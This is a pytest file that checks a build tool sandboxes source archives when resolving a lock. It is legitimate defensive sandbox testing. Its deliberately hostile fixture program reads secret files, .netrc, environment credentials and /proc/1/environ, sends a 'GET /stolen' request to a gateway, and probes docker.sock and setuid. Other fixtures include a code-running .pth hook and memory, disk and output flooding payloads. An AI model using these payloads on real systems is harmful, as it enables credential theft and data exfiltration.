"""`lock` of a stranger's recipe: a program of a source archive runs in a container, and finds nothing there."""

from __future__ import annotations

import json
import os
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from support.packages import WANTED, index, page, sdist, wheel

from builder.cli.lock import _solver
from builder.cli.main import Settings
from builder.engine.host import Engine
from builder.engine.metadata import LABEL, ask_archive
from builder.engine.process import SystemRunner
from builder.errors import BuildError, SourceError
from builder.source.lock import find_uv

pytestmark = pytest.mark.docker
EVIL = "evil-1.0.tar.gz"
BASE = "localhost/drivebuild/base:debian-12"
# What it finds, and where it gets through, it says in the name of what it needs: that stands in the lock.
PROGRAM = r"""
import glob, json, os, socket, sys

leaks = []
def tries(name, action):
    try:
        found = action()
    except (OSError, KeyError, ImportError):
        return
    if found:
        leaks.append(name)

def asked():
    socket.create_connection(("GATEWAY", PORT), 3).sendall(b"GET /stolen HTTP/1.0\r\n\r\n")
    return True

tries("host", lambda: open("SECRET").read())
tries("home", lambda: glob.glob("HOME/*") or glob.glob("HOME/.*"))
tries("netrc", lambda: open(os.environ["NETRC"]).read())
tries("environment", lambda: [value for value in os.environ.values() if "hunter2" in value or "@" in value])
tries("first", lambda: "hunter2" in open("/proc/1/environ").read())
tries("network", asked)
tries("outside", lambda: open("MARKER", "w"))
tries("root", lambda: open("/written", "w"))
tries("settings", lambda: [name for name in os.environ if name.startswith(("UV_", "PIP_", "DOCKER_"))])
tries("engine", lambda: os.path.exists("/var/run/docker.sock"))
tries("user", lambda: os.getuid() == 0)
tries("again", lambda: os.setuid(0) is None)
needed = ["leaked-" + "-".join(leaks)] if leaks else ["fine"]
"""
LEGACY = PROGRAM + "\nfrom setuptools import setup\nsetup(name='evil', version='1.0', install_requires=needed)\n"
BACKEND = (
    PROGRAM
    + r"""
import helper

def get_requires_for_build_wheel(_):
    return ["more>=1"]

def prepare_metadata_for_build_wheel(folder, _):
    import more
    os.mkdir(folder + "/evil-1.0.dist-info")
    text = "Metadata-Version: 2.1\nName: evil\nVersion: 1.0\n" + "".join(f"Requires-Dist: {one}\n" for one in needed)
    open(folder + "/evil-1.0.dist-info/METADATA", "w").write(text)
    print("drivebuild-metadata " + json.dumps({"metadata": "Name: other"}))
    return "evil-1.0.dist-info"
"""
)
PYPROJECT = '[build-system]\nrequires = ["helper"]\nbuild-backend = "backend"\nbackend-path = ["."]\n'
# As much of setuptools as a setup.py needs here; the real one runs for each shipped lock.
SETUPTOOLS = """
found = {}
def setup(**words):
    found.update(words)
"""
BUILD_META = """
import os
import setuptools

class _Legacy:
    def prepare_metadata_for_build_wheel(self, folder, _):
        exec(open("setup.py").read(), {"__file__": "setup.py", "__name__": "__main__"})
        words = setuptools.found
        name = f"{words['name']}-{words['version']}.dist-info"
        os.mkdir(os.path.join(folder, name))
        text = "Metadata-Version: 2.1\\nName: %(name)s\\nVersion: %(version)s\\n" % words
        text += "".join(f"Requires-Dist: {one}\\n" for one in words["install_requires"])
        open(os.path.join(folder, name, "METADATA"), "w").write(text)
        return name

__legacy__ = _Legacy()
"""


class Site:
    """A machine with secrets, and the index that its lock is resolved from."""

    def __init__(self, folder: Path, gateway: str, port: int, files: dict[str, bytes]) -> None:
        self.folder, self.gateway, self.port, self.files = folder, gateway, port, files
        self.marker = folder / "home" / "marker"

    def put(self, name: str, body: bytes) -> None:
        """Put the only file of its package into the index."""
        self.files[f"/f/{name}"] = body
        self.files[f"/simple/{name.partition('-')[0]}/"] = page({name: body})

    def filled(self, program: str) -> str:
        words = {"GATEWAY": self.gateway, "PORT": str(self.port), "MARKER": str(self.marker)}
        words |= {"SECRET": str(self.folder / "home/secret"), "HOME": str(self.folder / "home")}
        for word, value in words.items():
            program = program.replace(word, value)
        return program


@pytest.fixture
def asked() -> list[tuple[str, str]]:
    """Return what the index was asked for, with which Authorization."""
    return []


@pytest.fixture
def site(
    engine: Engine, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, asked: list[tuple[str, str]]
) -> Iterator[Site]:
    network: dict[str, Any] = engine.client.inspect_network("bridge")
    gateway = str(network["IPAM"]["Config"][0]["Gateway"])
    home = tmp_path / "home"
    (home / ".docker").mkdir(parents=True)
    (home / "secret").write_text("of this machine")
    # docker would hand these to every container.
    proxies = {"httpProxy": "http://me:hunter2@proxy.example:1", "noProxy": "hunter2"}
    (home / ".docker/config.json").write_text(json.dumps({"proxies": {"default": proxies}}))
    for name in [name for name in os.environ if name.startswith("UV_") or name.lower().endswith("_proxy")]:
        monkeypatch.delenv(name)
    files: dict[str, bytes] = {}
    with index(gateway, files) as (port, seen):
        (home / ".netrc").write_text(f"machine {gateway} login me password hunter2\n")
        monkeypatch.setenv("NETRC", str(home / ".netrc"))
        monkeypatch.setenv("HOME", str(home))
        monkeypatch.setenv("DOCKER_CONFIG", str(home / ".docker"))
        monkeypatch.setenv("UV_DEFAULT_INDEX", f"http://{gateway}:{port}/simple")
        monkeypatch.setenv("UV_CACHE_DIR", str(tmp_path / "cache"))
        made = Site(tmp_path, gateway, port, files)
        setuptools = {"setuptools/__init__.py": SETUPTOOLS, "setuptools/build_meta.py": BUILD_META}
        made.put("setuptools-99.0-py3-none-any.whl", wheel("setuptools", "99.0", files=setuptools))
        made.put("fine-1.0-py3-none-any.whl", wheel("fine", "1.0"))
        made.put("more-1.0-py3-none-any.whl", wheel("more", "1.0", files={"more.py": ""}))
        # A build's requirement with a line that each Python would run that has it in its own folder.
        trace = f"import os; open({str(made.marker)!r}, 'w').close()\n"
        bad = {"helper.py": "", "helper.pth": trace}
        made.put("helper-1.0-py3-none-any.whl", wheel("helper", "1.0", files=bad))
        yield made
        asked += seen


def evil(site: Site, kind: str) -> bytes:
    if kind == "setup.py":
        return sdist("evil", "1.0", setup_py=site.filled(LEGACY))
    return sdist("evil", "1.0", backend_py=site.filled(BACKEND), pyproject_toml=PYPROJECT)


@pytest.mark.parametrize("kind", ["setup.py", "in-tree backend"])
def test_a_program_of_an_archive_finds_nothing_and_the_lock_is_right(
    site: Site, asked: list[tuple[str, str]], kind: str
) -> None:
    site.put(EVIL, evil(site, kind))
    lines = _solver(Settings(), None)(WANTED)
    assert [line.partition(" --hash")[0] for line in lines] == ["evil==1.0", "fine==1.0"]
    assert lines[0].endswith(" # evil-1.0.tar.gz")
    assert not site.marker.exists()
    assert "/stolen" not in {path for path, _ in asked}
    assert SystemRunner().run(("docker", "ps", "--all", "--quiet", "--filter", f"label={LABEL}")).text == ""


def test_the_same_archive_finds_all_of_it_where_uv_runs_it(site: Site, tmp_path: Path) -> None:
    """What the test above sees, it would see: this is what a lock did before."""
    site.put(EVIL, evil(site, "setup.py"))
    (tmp_path / "requirements.in").write_text("evil\n")
    words = ("pip", "compile", str(tmp_path / "requirements.in"), "--no-config", "--quiet", "--no-header")
    done = SystemRunner().run((find_uv(), *words))
    assert "leaked-host-home-netrc-network-outside" in " ".join(done.complaint.split()).replace(" ", "")
    assert site.marker.exists()


@pytest.mark.parametrize(
    ("program", "said"),
    [
        ("raise SystemExit('I will not')", "I will not"),
        ("import os\nos._exit(0)", "it gives no answer"),
        ("open('/work', 'w')", "Read-only file system"),
        ("x = bytearray(4 << 30)\nfor i in range(0, len(x), 4096): x[i] = 1", "it gives no answer"),
        ("with open('/tmp/big', 'wb') as file:\n    while True: file.write(bytes(1 << 20))", "No space left"),
    ],
    ids=["refuses", "ends", "writes", "memory", "disk"],
)
def test_a_program_that_gives_no_answer_is_one_error(site: Site, program: str, said: str) -> None:
    site.put(EVIL, sdist("evil", "1.0", setup_py=program))
    with pytest.raises(SourceError) as caught:
        _solver(Settings(), None)(WANTED)
    assert said in caught.value.message
    assert caught.value.message.startswith("evil 1.0 has no wheel for Python 3.11 on x86_64, and its source archive")
    assert "pin a version that has a wheel" in (caught.value.hint or "")


def test_what_is_printed_without_an_end_is_not_kept(engine: Engine, tmp_path: Path) -> None:
    """Past its own output, at that of the container's first process."""
    archive = tmp_path / "archive.tar.gz"
    floods = "while True:\n    try:\n        open('/proc/1/fd/1', 'w').write('x' * 65536)\n    except OSError: pass\n"
    archive.write_bytes(sdist("evil", "1.0", backend_py=floods, pyproject_toml=PYPROJECT.replace('"helper"', "")))
    library = tmp_path / "library"
    library.mkdir()
    runner = SystemRunner()
    assert ask_archive(BASE, archive, None, [], runner)["requires"] == []
    with pytest.raises(BuildError, match="prints more than 8 MiB"):
        ask_archive(BASE, archive, library, [], runner)
    assert runner.run(("docker", "ps", "--all", "--quiet", "--filter", f"label={LABEL}")).text == ""
